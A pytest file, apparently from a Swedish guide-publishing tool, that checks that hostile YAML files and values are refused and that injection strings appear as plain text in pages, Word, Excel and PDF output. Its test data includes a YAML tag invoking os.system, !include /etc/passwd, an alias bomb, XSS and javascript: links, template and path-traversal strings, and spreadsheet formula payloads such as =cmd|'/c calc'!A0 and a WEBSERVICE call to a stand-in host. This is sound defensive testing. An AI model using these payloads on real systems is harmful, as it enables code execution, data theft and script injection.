"""Contributions that would do harm, or only look as if they did: refused with place and remedy, or shown as they stand.

What is refused is told with an exact message. What is accepted stands where a reader meets texts, once as the hostile
text and once as harmless words: the pages must have the same elements and attributes, so that nothing in the text has
become markup. And the text must be there word for word, in pages, Word, Excel and PDF.
"""

from __future__ import annotations

import io
import os
import re
import shutil
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import markdown
import openpyxl
import pytest
import yaml
from docx import Document
from docx.oxml.ns import qn

from scripts.fonts import printable
from scripts.guide import addresses
from scripts.guide.check import read
from scripts.guide.guide import Guide
from scripts.guide.model import Term
from scripts.publish.build import build
from tests import readers
from tests.small_guide import FIELDS, RECORDS, SHEET, VALUES, stepped, write
from tests.test_check import PRACTICE, SOURCE, WORKSHEET, Changes, problems, spoilt
from tests.test_worksheets import pdf_text

pytestmark = pytest.mark.xdist_group("hostile")  # the site is built once
ROOT = Path(__file__).resolve().parent.parent
TERM = "terms/vite.yaml"
FOLDERS = "phases, principles, success_factors, focus_areas, workshops, challenges, practices, indicators, worksheets, examples, meetings, questions, contract_forms, laws, experiences, roles, terms, sources"
Spoil = Callable[[Path], object]

# ---------------------------------------------------------------- files that are refused


def title(replacement: str) -> Spoil:
    """The line of the term's title, the third of its file, replaced."""
    return content(lambda raw: raw.replace(b'title: "Vite"', replacement.encode(), 1))


def content(change: Callable[[bytes], bytes]) -> Spoil:
    def spoil(data: Path) -> None:
        raw = (data / TERM).read_bytes()
        assert change(raw) != raw
        (data / TERM).write_bytes(change(raw))

    return spoil


def whole(text: str) -> Spoil:
    return lambda data: (data / TERM).write_text(text, encoding="utf-8")


def named(name: str) -> Spoil:
    """A good term in a file of another name."""
    return lambda data: (data / "terms" / name).write_bytes((data / TERM).read_bytes())


def bomb() -> str:
    """Nine levels of nine aliases: a billion values from 400 characters."""
    levels = (
        f"{name}: &{name} [{', '.join([f'*{below}'] * 9)}]" for below, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    return "\n".join(("a: &a [x]", *levels))


def settings_are_a_link(data: Path) -> None:
    (data / "guide.yaml").rename(data.parent / "annan.yaml")
    (data / "guide.yaml").symlink_to(data.parent / "annan.yaml")


MEND = "Sudda där och skriv om orden intill."
NAME = "Använd bara a–z, 0–9 och bindestreck, till exempel"
KEY = "läses inte som det. Är det ett id sätter du det inom citattecken."
LINK = "länkar är inte tillåtna i guide_data/. Lägg filen här i stället."
TERM_FIELDS = "title, basis, status, reviewed, sources, definition, forms, differs, see_also"
REFUSED_FILES: dict[str, tuple[Spoil, str]] = {
    "a tag that runs code": (title("title: !!python/name:os.system x"), f"{TERM}:3: YAML-taggar som «tag:yaml.org,2002:python/name:os.system» är inte tillåtna. Ta bort taggen."),
    "a tag that reads a file": (title("title: !include /etc/passwd"), f"{TERM}:3: YAML-taggar som «!include» är inte tillåtna. Ta bort taggen."),
    "a tag on a name": (title("!!binary title: x"), f"{TERM}:3: YAML-taggar som «tag:yaml.org,2002:binary» är inte tillåtna. Ta bort taggen."),
    "a bomb of aliases": (whole(bomb()), f"{TERM}:3: filen har fler än 10 alias (*namn). Skriv ut värdena i stället."),
    "a list in itself": (title("title: &a [*a]"), f"{TERM}:3: värdet innehåller sig självt genom ett alias. Skriv ut värdet i stället."),
    "a mapping in itself": (title("title: &a {b: *a}"), f"{TERM}:3: värdet innehåller sig självt genom ett alias. Skriv ut värdet i stället."),
    "forty thousand brackets": (title("title: " + "[" * 40_000), f"{TERM}:3: filen har för många nivåer av indrag."),
    "thirty indents": (whole("".join(f"{' ' * depth}a{depth}:\n" for depth in range(30))), f"{TERM}:21: filen har för många nivåer av indrag."),
    "fields merged in": (title("a: &a {title: Vite}\n<<: *a"), f"{TERM}:4: fält kan inte hämtas från ett alias med «<<». Skriv ut fälten i stället."),
    "a number for a name": (title("1: x"), f"{TERM}:3: fältets namn ska vara text, och «1» {KEY}"),
    "nothing for a name": (title("~: x"), f"{TERM}:3: fältets namn ska vara text, och «~» {KEY}"),
    "truth for a name": (title("true: x"), f"{TERM}:3: fältets namn ska vara text, och «true» {KEY}"),
    "a day for a name": (title("2026-01-01: x"), f"{TERM}:3: fältets namn ska vara text, och «2026-01-01» {KEY}"),
    "a list for a name": (title("[a]: x"), f"{TERM}:3: fältets namn ska vara ett enda ord följt av kolon."),
    "a mapping for a name": (title("? {a: b}\n: x"), f"{TERM}:3: fältets namn ska vara ett enda ord följt av kolon."),
    "one name in two ways of writing": (title("ti\u0308tle: x\nt\u00eftle: y"), f"{TERM}:4: fältet «tïtle» står två gånger (först på rad 3). Behåll ett av dem."),
    "a huge text": (title("title: " + "x" * 60_000), f"{TERM}:3: title: Rubrik: texten är längre än 80 tecken. Korta den."),
    "a number of five thousand digits": (title("title: " + "9" * 5_000), f"{TERM}:3: title: Rubrik: texten är längre än 80 tecken. Korta den."),
    "nine thousand names": (whole("\n".join(f"k{i}: x" for i in range(9_000))), f"{TERM}:31: … och 8971 fel till i filen."),
    "a day that is not": (title("title: 2026-02-30"), f"{TERM}:3: datumet «2026-02-30» finns inte. Skriv datum som ÅÅÅÅ-MM-DD."),
    "UTF-16": (content(lambda raw: raw.decode().encode("utf-16")), f"{TERM}:1: filen är inte sparad som UTF-8. Spara om den med teckenkodningen UTF-8."),
    "a null character": (title("title: V\0ite"), f"{TERM}:3: ett osynligt styrtecken (U+0000) står efter «V». {MEND}"),
    "an escape that clears the screen": (title("title: V\x1b[2Jite"), f"{TERM}:3: ett osynligt styrtecken (U+001B) står efter «V». {MEND}"),
    "an escape written as one": (title('title: "V\\e[2Jite"'), f"{TERM}:3: ett osynligt styrtecken (U+001B) står efter «V». {MEND}"),
    "text that runs backwards": (title("title: Vi\u202ete"), f"{TERM}:3: ett osynligt tecken som vänder läsriktningen (U+202E) står efter «Vi». {MEND}"),
    "text that runs backwards by an escape": (title('title: "Vi\\u202ete"'), f"{TERM}:3: ett osynligt tecken som vänder läsriktningen (U+202E) står efter «Vi». {MEND}"),
    "an isolate": (title("title: Vite\u2066"), f"{TERM}:3: ett osynligt tecken som vänder läsriktningen (U+2066) står efter «Vite». {MEND}"),
    "a space without width": (title("title: Vi\u200bte"), f"{TERM}:3: ett osynligt tecken (U+200B) står efter «Vi». {MEND}"),
    "a word joiner": (title("title: Vi\u2060te"), f"{TERM}:3: ett osynligt tecken (U+2060) står efter «Vi». {MEND}"),
    "a byte order mark in a text": (title("title: Vi\ufeffte"), f"{TERM}:3: ett osynligt tecken (U+FEFF) står efter «Vi». {MEND}"),
    "letters of tags that no one sees": (title("title: Vite\U000e0041"), f"{TERM}:3: ett osynligt tecken (U+E0041) står efter «Vite». {MEND}"),
    "another kind of line break": (title("title: Vite\u2028plats"), f"{TERM}:3: en osynlig radbrytning (U+2028) står efter «Vite». {MEND}"),
    "a line break of mainframes": (title("title: Vite\x85plats"), f"{TERM}:3: en osynlig radbrytning (U+0085) står efter «Vite». {MEND}"),
    "a letter that was lost": (title("title: V\ufffdte"), f"{TERM}:3: ett tecken för en förlorad bokstav (U+FFFD) står efter «V». {MEND}"),
    "a bullet of Word's own font": (title("title: Vite \uf0b7"), f"{TERM}:3: ett tecken som bara finns i ett visst typsnitt (U+F0B7) står efter «Vite». {MEND}"),
    "half a character": (title('title: "V\\ud800te"'), f"{TERM}:3: ett osynligt tecken (U+D800) står efter «V». {MEND}"),
    "a tab by an escape": (title('title: "V\\tte"'), f"{TERM}:3: ett tabbtecken (U+0009) står efter «V». {MEND}"),
    "a line break by an escape": (title('title: "V\\nte"'), f"{TERM}:3: title: Rubrik: «V te» står på flera rader. Skriv texten på en rad."),
    "a name that Windows keeps": (named("con.yaml"), "terms/con.yaml:1: Windows kan inte ha en fil som heter «con». Döp om filen."),
    "another that Windows keeps": (named("lpt1.yaml"), "terms/lpt1.yaml:1: Windows kan inte ha en fil som heter «lpt1». Döp om filen."),
    "the name of the list": (named("index.yaml"), "terms/index.yaml:1: «index» är upptaget: det är adressen till sidan som listar posterna. Döp om filen."),
    "a line break in a name": (named("mal\n.yaml"), f"terms/mal\ufffd.yaml:1: filnamnet «mal\ufffd» går inte. {NAME} mal.yaml."),
    "the same name in another case": (named("Vite.yaml"), f"terms/Vite.yaml:1: filnamnet «Vite» går inte. {NAME} vite.yaml."),
    "a name parted by macOS": (named("bo\u0308ter.yaml"), f"terms/b\u00f6ter.yaml:1: filnamnet «b\u00f6ter» går inte. {NAME} boter.yaml."),
    "a name with another alphabet's e": (named("vit\u0435.yaml"), f"terms/vit\u0435.yaml:1: filnamnet «vit\u0435» går inte. {NAME} vit.yaml. Tecknet «\u0435» (U+0435) är en annan bokstav än den liknar."),
    "a path of Windows for a name": (named("a\\b.yaml"), f"terms/a\\b.yaml:1: filnamnet «a\\b» går inte. {NAME} a-b.yaml."),
    "an option for a name": (named("-rf.yaml"), f"terms/-rf.yaml:1: filnamnet «-rf» går inte. {NAME} rf.yaml."),
    "a name in no known encoding": (lambda data: Path(os.fsdecode(os.fsencode(data) + b"/terms/b\xf6ter.yaml")).touch(), f"terms/b\ufffdter.yaml:1: filnamnet «b\ufffdter» går inte. {NAME} bter.yaml."),
    "a name too long": (named("a" * 61 + ".yaml"), f"terms/{'a' * 61}.yaml:1: filnamnet är längre än 60 tecken. Döp om filen till något kortare."),
    "two endings": (named("x.yaml.exe"), "terms/x.yaml.exe:1: filändelsen «.exe» går inte. Döp om filen så att den slutar på .yaml."),
    "a folder in a folder": (lambda data: (data / "terms/term").mkdir(), f"terms/term:1: mappen «term» hör inte hit. Mapparna är {FOLDERS}. Menade du «terms»?"),
    "a folder that is a link": (lambda data: (data / "mer").symlink_to("/etc"), f"mer:1: {LINK}"),
    "settings that are a link": (settings_are_a_link, f"guide.yaml:1: {LINK}"),
    "a pipe that never ends": (lambda data: os.mkfifo(data / "terms/x.yaml"), "terms/x.yaml:1: detta är ingen vanlig fil. Ta bort den."),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED_FILES)
def test_a_hostile_file_is_refused_with_place_and_remedy_and_nothing_else_is_told(tmp_path: Path, name: str) -> None:
    spoil, message = REFUSED_FILES[name]
    spoil(write(tmp_path) / "guide_data")
    found = problems(tmp_path)
    assert found[-1] == f"guide_data/{message}"
    assert len(found) == (31 if name == "nine thousand names" else 1)


# ---------------------------------------------------------------- values that are refused

ADDRESS = "går inte. Adressen börjar med https:// och har inga mellanslag, citattecken eller parenteser."
PHASE = "finns inte i phases/. Tillåtet är uppstart."
OTHER = "är en annan bokstav än den liknar."
ADDRESSES = (
    "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "&#106;avascript:alert(1)", "java\nscript:alert(1)",
    "//ond.example", "https://", "https://[::1", "https://[x]/", "https://ond.example/[x]", "https://ond.example/ onclick=x", 'https://ond.example/"onclick="x', "https://ond.example/)x",
    "https://siq.se@ond.example/", "https://siq.se\\@ond.example/",
)  # fmt: skip
REFUSED_VALUES: dict[str, tuple[Changes, str]] = {
    **{f"the address {url!r}": ({SOURCE: {"url": url}}, f"sources/provkalla.yaml:7: url: Adress: «{' '.join(url.split())}» {ADDRESS}") for url in ADDRESSES},
    "a Cyrillic а in a reference": ({PRACTICE: {"phases": ["uppst\u0430rt"]}}, f"practices/motas.yaml:7: phases: Faser: «uppst\u0430rt» {PHASE} Menade du «uppstart»? Tecknet «\u0430» (U+0430) {OTHER}"),
    "a reference in full width": ({PRACTICE: {"phases": ["ｕｐｐｓｔａｒｔ"]}}, f"practices/motas.yaml:7: phases: Faser: «ｕｐｐｓｔａｒｔ» {PHASE} Menade du «uppstart»? Tecknet «ｕ» (U+FF55) {OTHER}"),
    "a path for a reference": ({PRACTICE: {"phases": ["../../etc/passwd"]}}, f"practices/motas.yaml:7: phases: Faser: «../../etc/passwd» {PHASE}"),
    "script for a reference": ({PRACTICE: {"phases": ["<script>alert(1)</script>"]}}, f"practices/motas.yaml:7: phases: Faser: «<script>alert(1)</script>» {PHASE}"),
    "a template for a reference": ({PRACTICE: {"phases": ["{{ 7*7 }}"]}}, f"practices/motas.yaml:7: phases: Faser: «{{{{ 7*7 }}}}» {PHASE}"),
    "a citation of a path": ({PRACTICE: {"why": "Vite [[../vite]]."}}, "practices/motas.yaml:29: why: Varför: hänvisningen [[../vite]] finns inte i sources/. Tillåtet är provkalla."),
    "a citation in three brackets": ({PRACTICE: {"why": "Vite [[[a]]]."}}, "practices/motas.yaml:29: why: Varför: hänvisningen [[a]] finns inte i sources/. Tillåtet är provkalla."),
    "a citation by its label": ({PRACTICE: {"why": "Vite [[Provkällan]]."}}, "practices/motas.yaml:29: why: Varför: hänvisningen [[Provkällan]] finns inte i sources/. Tillåtet är provkalla. Menade du «provkalla»?"),
    "a place past all others": ({PRACTICE: {"order": 99_999_999_999_999}}, "practices/motas.yaml:4: order: Ordning: «99999999999999» är för stort. Högst 9999."),
    "a place before all others": ({PRACTICE: {"order": -1}}, "practices/motas.yaml:4: order: Ordning: «-1» är för litet. Minst 1."),
    "two sources with a label of brackets": ({SOURCE: {"label": "[["}, "sources/annan": {**RECORDS["sources"]["provkalla"], "label": "[["}}, "sources/provkalla.yaml:4: label: Kort hänvisning: «[[» används redan av «annan». Välj en annan."),
    "a title of blanks": ({PRACTICE: {"title": " \u00a0 "}}, "practices/motas.yaml:3: title: Rubrik: texten är tom. Skriv ett värde eller ta bort fältet."),
    "a list for a title": ({PRACTICE: {"title": ["a"]}}, "practices/motas.yaml:3: title: Rubrik: «['a']» läses inte som text. Sätt värdet inom citattecken."),
    "a text of twelve thousand and one": ({PRACTICE: {"why": "x" * 12_001}}, "practices/motas.yaml:29: why: Varför: texten är längre än 12000 tecken. Korta den."),
    "an id with a path": ({WORKSHEET: {"sections": [{"title": "A", "fields": [{**FIELDS[0], "id": "../mal"}]}]}}, "worksheets/provblad.yaml:22: id: Id: «../mal» går inte som id. Använd bara a–z, 0–9 och bindestreck."),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED_VALUES)
def test_a_hostile_value_is_refused_with_place_and_remedy_and_nothing_else_is_told(tmp_path: Path, name: str) -> None:
    changes, message = REFUSED_VALUES[name]
    assert problems(spoilt(tmp_path, changes)) == [f"guide_data/{message}"]


# ---------------------------------------------------------------- what looks wrong and is not


def test_what_editors_and_computers_leave_in_a_folder_is_passed_over(tmp_path: Path) -> None:
    names = (
        ".DS_Store", "._vite.yaml", ".vite.yaml.swp", "vite.yaml~", "#vite.yaml#", ".#vite.yaml", "Thumbs.db", "desktop.ini",
        ".~lock.vite.yaml#", "~$vite.docx", ".git/config",
    )  # fmt: skip
    terms = write(tmp_path) / "guide_data/terms"
    for name in names:
        (terms / name).parent.mkdir(exist_ok=True)
        (terms / name).write_bytes(b"\0 ingen post")
    assert problems(tmp_path) == []
    assert set(read(tmp_path).guide.records["terms"]) == {"vite"}


@pytest.mark.parametrize(
    "change",
    [
        lambda raw: b"\xef\xbb\xbf" + raw,
        lambda raw: raw.replace(b"\n", b"\r\n"),
        lambda raw: raw.replace(b"\n", b"\r"),
        lambda raw: raw.replace(b"belopp", "be\u00adlopp".encode()),
    ],
    ids=["a byte order mark", "Windows' line breaks", "old Macintosh's line breaks", "a soft hyphen"],
)
def test_traces_of_other_programs_go_silently(tmp_path: Path, change: Callable[[bytes], bytes]) -> None:
    content(change)(write(tmp_path) / "guide_data")
    assert read(tmp_path).guide.get(Term, "vite").definition == "Ett belopp vid avtalsbrott."


def test_letters_in_two_parts_are_read_as_one_in_texts_ids_and_choices(tmp_path: Path) -> None:
    parted = "Vi a\u030aker ha\u0308r och krönt. Vite. Fo\u0308re."
    root = spoilt(tmp_path, {PRACTICE: {"why": parted}})
    file = root / "guide_data" / f"{PRACTICE}.yaml"
    file.write_text(file.read_text("utf-8").replace("utförare", "utfo\u0308rare"), encoding="utf-8")
    practice = read(root).guide.records["practices"]["motas"]
    assert practice.why == "Vi åker här och krönt. Vite. Före."  # type: ignore[attr-defined]
    assert practice.steps[2].who == "utförare"  # type: ignore[attr-defined]


def test_a_term_in_two_parts_is_found_in_the_pages_texts(tmp_path: Path) -> None:
    write(tmp_path, terms={"vite": {"title": "Bo\u0308ter"}}, practices={"motas": {"why": "Böter och viten."}})
    assert "[Böter](../begrepp/index.md#vite)" in readers.pages(read(tmp_path).guide)["arbetssatt/motas.md"]


# ---------------------------------------------------------------- texts that are shown as they stand

SHOWN: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "the end of a script": "</script><script>alert(1)</script>",
    "an image that runs script": "<img src=x onerror=alert(1)>",
    "a drawing that runs script": "<svg/onload=alert(1)>",
    "a link in HTML": '<a href="javascript:alert(1)">x</a>',
    "a frame": "<iframe src=//ond.example></iframe>",
    "a style": "<style>*{display:none}</style>",
    "a comment": "<!-- dold",
    "the end of a comment": "--> slut -- >",
    "character data": "<![CDATA[x]]>",
    "a program": "<?php x ?>",
    "Markdown in HTML": '<p markdown="1">**x**</p>',
    "the end of the article": "</p></li></ol></article>",
    "entities": "&lt;b&gt; &#60;b&#62; &amp;amp; &nbsp",
    "an attribute's end": "\" onclick=alert(1) x=\"'",
    "a link to script": "[x](javascript:alert(1))",
    "a link to script in other case": "[x](JaVaScRiPt:alert(1))",
    "a link to data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "a link to VBScript": "[x](vbscript:msgbox(1))",
    "a link to script in entities": "[x](java&#115;cript:alert(1))",
    "an image": "![x](https://ond.example/x.png)",
    "an automatic link": "<https://ond.example>",
    "an automatic link to script": "<javascript:alert(1)>",
    "a bare address": "https://ond.example/x",
    "a link by name": "[x][ond]",
    "a name for links": '[ond]: https://ond.example "x"',
    "a footnote": "[^1]: fotnot[^1]",
    "an abbreviation": "*[HTML]: förkortning",
    "Jinja's value": "{{ 7*7 }}",
    "Jinja's command": '{% include "page.md.j2" %}',
    "Jinja's comment": "{# dold #}",
    "another template's value": "${7*7} <%= 7*7 %>",
    "a table's row": "| a | b |",
    "a table's rule": "|---|:--:|",
    "a dash": "- punkt",
    "a plus": "+ punkt",
    "a star": "* punkt",
    "a number": "1. punkt",
    "a number with a bracket": "10) punkt",
    "a year": "2024. Året då",
    "a heading": "# rubrik",
    "a quotation": "> citat",
    "a rule of equals": "===",
    "a rule of dashes": "---",
    "a rule of stars": "* * *",
    "a fence": "```python",
    "another fence": "~~~ {.python}",
    "emphasis": "**fet** _kursiv_ ~~struket~~ ==gul== ^upp^",
    "code": "`kod` ``kod``",
    "attributes": "{ .x onclick=alert(1) }",
    "attributes with a colon": "{: #id .klass title=x }",
    "attributes after a word": "ord{ .x onclick=alert(1) }",
    "a definition": ": definition",
    "an admonition": "!!! danger",
    "details": "??? note",
    "a table of contents": "[TOC]",
    "an escape": "\\* \\[ \\\\ slut\\",
    "an icon": ":smile: :material-skull:",
    "a snippet": '--8<-- "/etc/passwd"',
    "half a citation": "[[ ] [[a] ]] ]",
    "a formula": "=1+1",
    "a formula with plus": "+1+1",
    "a formula with minus": "-1+1",
    "a formula with at": "@SUM(A1)",
    "a formula of an array": "{=1+1}",
    "a command": "=cmd|'/c calc'!A0",
    "a link as a formula": '=HYPERLINK("http://ond.example";"x")',
    "a call to the web": '=WEBSERVICE("http://ond.example/"&A1)',
    "an old exchange of data": 'DDE ("cmd";"/C calc";"x")',
    "a path in Excel": "external:c:\\ond.xlsx#A1",
    "a place in Excel": "internal:Frågor!A1",
    "codes of a page's foot": "&P &N &D &G",
    "Excel's escape": "_x0041_ _x000D_",
    "the end of XML's data": "]]>",
    "an element of Word": '<w:instrText>DDEAUTO c:\\\\x "x"</w:instrText>',
    "a character that XML lacks": "&#x0; &#xFFFE;",
    "Typst's code": '#eval("1+1") #import "x.typ": *',
    "Typst's formula": "$x^2$ #panic()",
    "Typst's reference": "@ref <label>",
    "Typst's marks": "= Rubrik *fet* _kursiv_ ~ --- ...",
    "Typst's comments": "// dold /* dold */",
    "Typst's escape": "\\u{41} \\#x",
    "a very long word": "Spårvagnsdepåpersonal" * 10,
    "emoji": "☑️ 🚍 👍🏽",
    "Hebrew and Arabic": "שלום (a) مرحبا 1!",
    "letters with many marks": "z\u0337\u0321a\u0346n",
    "letters of mathematics": "𝒂𝒃 ﬁ ½ ²",
    "an i without a dot": "vıte VİTE",
    "line breaks for search": "a\u00a0b",
}  # fmt: skip
TEXTS = tuple(SHOWN.values())


class Page(HTMLParser):
    """A page as a browser takes it: its elements with the names of their attributes, its addresses, its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []
        self.text = ""
        self.feed(html)
        self.text = " ".join(self.text.split())

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(sorted(name for name, _ in attributes))))
        self.addresses += [value or "" for name, value in attributes if name in ("href", "src", "action")]

    def handle_data(self, data: str) -> None:
        self.text += data


def laid_out(texts: tuple[str, ...]) -> dict[str, Any]:
    """The small guide with each text where a reader meets texts: headings, leads, prose, lists, tables, forms, answers."""
    short = [text[:57] for text in texts]
    challenges = {
        f"hot-{number}": {
            **RECORDS["challenges"]["tystnad"],
            **dict.fromkeys(("summary", "text", "first_step", "client_sees"), text),
            "title": text[:80],
        }
        for number, text in enumerate(texts)
    }
    sources = {
        f"kalla-{number}": {
            **RECORDS["sources"]["provkalla"],
            "title": text[:80],
            "label": text,
            "says": text,
            "publisher": text,
        }
        for number, text in enumerate(short)
    }
    steps = [
        {"who": "båda", "do": text, "result": text, "minutes": 5, "meeting": f"Möte {number // 50}"}  # none too long
        for number, text in enumerate(texts)
    ]
    practice = {
        "why": "\n\n".join((*texts, "Vite.")),
        "pitfalls": list(texts),
        **stepped(steps),
        "sources": list(sources),
    }
    options = list(dict.fromkeys(short))[:12]
    fields = [
        {**FIELDS[0], "label": short[0], "help": texts[0]},
        FIELDS[1],
        FIELDS[2],
        {**FIELDS[3], "options": options},
        FIELDS[4],
        {**FIELDS[6], "items": [{"id": f"p{number}", "text": text} for number, text in enumerate(texts)]},
        {**FIELDS[7], "rows": [{"risk": text} for text in texts]},
        FIELDS[9],
    ]
    values = {
        **{id: VALUES[id] for id in ("start", "tillit", "underskrift")},
        "mal": texts[0],
        "bakgrund": "\n\n".join(texts),
        "beslut": options[-1],
        "klart": ["p1"],
        "risker": [{"risk": text} for text in texts],
    }
    return {
        "challenges": challenges,
        "sources": sources,
        "practices": {"motas": practice},
        "worksheets": {SHEET: {"sections": [{"title": short[0], "intro": texts[0], "fields": fields}]}},
        "examples": {SHEET: {"values": values}},
    }


HARMLESS = tuple(f"Ord {number} av flera" for number in range(len(TEXTS)))


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built guide with the hostile texts, and after them a harmless one."""
    root = tmp_path_factory.mktemp("hostile")
    write(root, **laid_out((*TEXTS, HARMLESS[0])))
    project(root)
    build(root, root / "site")
    return root / "site"


def project(root: Path) -> None:
    """What building needs beside the records, with next to nothing on the hand-written pages."""
    config = yaml.load((ROOT / "mkdocs.yml").read_text("utf-8"), yaml.SafeLoader)
    for name in ("extra_css", "extra_javascript"):
        del config[name]
    config["theme"].pop("favicon")
    config["validation"]["links"] = {"not_found": "ignore", "anchors": "ignore"}
    for page in addresses.BY_HAND:
        (root / "docs" / page).parent.mkdir(parents=True, exist_ok=True)
        (root / "docs" / page).write_text(f"# {page}\n", encoding="utf-8")
    shutil.copytree(ROOT / "scripts", root / "scripts", ignore=shutil.ignore_patterns("__pycache__"))
    (root / "mkdocs.yml").write_text(yaml.safe_dump(config), encoding="utf-8")


def pages(site: Path) -> dict[str, Page]:
    return {file.relative_to(site).as_posix(): Page(file.read_text("utf-8")) for file in sorted(site.rglob("*.html"))}


def as_markdown(guide: Guide) -> dict[str, Page]:
    """The pages as any program makes them from Markdown, by path. Faster than a site, and without its frame."""
    config = yaml.load((ROOT / "mkdocs.yml").read_text("utf-8"), yaml.SafeLoader)["markdown_extensions"]
    extensions = [name for entry in config for name in (entry if isinstance(entry, dict) else [entry])]
    sources = {path: text for path, text in readers.pages(guide).items() if path.endswith(".md")}
    return {
        path: Page(markdown.markdown(text.split("---\n", 2)[2], extensions=extensions))
        for path, text in sources.items()
    }


@pytest.fixture(scope="module")
def hostile(site: Path) -> dict[str, Page]:
    return pages(site)


def test_hostile_texts_make_the_same_elements_as_harmless_words(tmp_path: Path) -> None:
    said, meant = (
        as_markdown(read(write(tmp_path / name, **laid_out(texts))).guide)
        for name, texts in (("hostile", TEXTS), ("harmless", HARMLESS))
    )
    assert said.keys() == meant.keys()
    assert [path for path, page in said.items() if page.elements != meant[path].elements] == []


@pytest.mark.parametrize("name", SHOWN)
def test_a_page_of_hostile_texts_has_what_a_page_of_harmless_words_has(hostile: dict[str, Page], name: str) -> None:
    here, there = (hostile[f"utmaningar/hot-{number}/index.html"] for number in (TEXTS.index(SHOWN[name]), len(TEXTS)))
    assert Counter(here.elements) == Counter(there.elements)


def test_hostile_texts_lead_nowhere(hostile: dict[str, Page]) -> None:
    addresses = {address for page in hostile.values() for address in page.addresses}
    assert {urlsplit(address).scheme for address in addresses} <= {"", "https"}
    assert not [
        address for address in addresses if re.search("ond.example|alert", address) and not address.startswith("#")
    ]


@pytest.mark.parametrize("name", SHOWN)
def test_a_hostile_text_is_read_word_for_word_on_pages(hostile: dict[str, Page], name: str) -> None:
    text, number = " ".join(SHOWN[name].split()), TEXTS.index(SHOWN[name])
    challenge = hostile[f"utmaningar/hot-{number}/index.html"].text
    assert challenge.count(text[:80]) >= 6
    assert hostile["arbetssatt/motas/index.html"].text.count(text) >= 4
    assert hostile["arbetsblad/provblad/index.html"].text.count(text) >= 4
    assert hostile["kallor/index.html"].text.count(text[:57]) >= 3


def download(site: Path, name: str) -> bytes:
    return (site / "ladda-ner" / name).read_bytes()


def test_hostile_texts_are_strings_and_no_formulas_in_excel(site: Path) -> None:
    book = openpyxl.load_workbook(io.BytesIO(download(site, "provblad-exempel.xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    strings = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(TEXTS) <= strings
    assert {cell.value[:4] for cell in cells if cell.data_type == "f"} <= {"=IF("}
    assert not any(cell.hyperlink for cell in cells)


def test_hostile_texts_are_texts_in_word(site: Path) -> None:
    body = Document(io.BytesIO(download(site, "provblad-exempel.docx"))).element.body
    said = ["".join(text.text or "" for text in paragraph.iter(qn("w:t"))) for paragraph in body.iter(qn("w:p"))]
    assert [text for text in TEXTS if not any(text in paragraph for paragraph in said)] == []
    assert {element.get(qn("w:instr")) for element in body.iter(qn("w:fldSimple"))} <= {None, "PAGE", "NUMPAGES"}
    assert not list(body.iter(qn("w:instrText"), qn("w:hyperlink")))


@pytest.mark.parametrize("file", ["provblad-exempel.pdf", "mote-motas.pdf", "guiden.pdf"])
def test_hostile_texts_are_texts_in_pdf(site: Path, file: str) -> None:
    said = re.sub(r"[\s-]", "", pdf_text(download(site, file)))
    assert [text for text in TEXTS if re.sub(r"[\s-]", "", printable(text)) not in said] == []


@pytest.mark.parametrize("title", ["[x](javascript:alert(1))", "**fet** plan"])
def test_no_title_becomes_markup_beside_the_links_to_its_meeting_kit(tmp_path: Path, title: str) -> None:
    shown = as_markdown(read(write(tmp_path, practices={"motas": {"title": title}})).guide)["arbetssatt/motas.md"]
    assert not [address for address in shown.addresses if "javascript" in address]
    assert "aria-label" not in shown.text
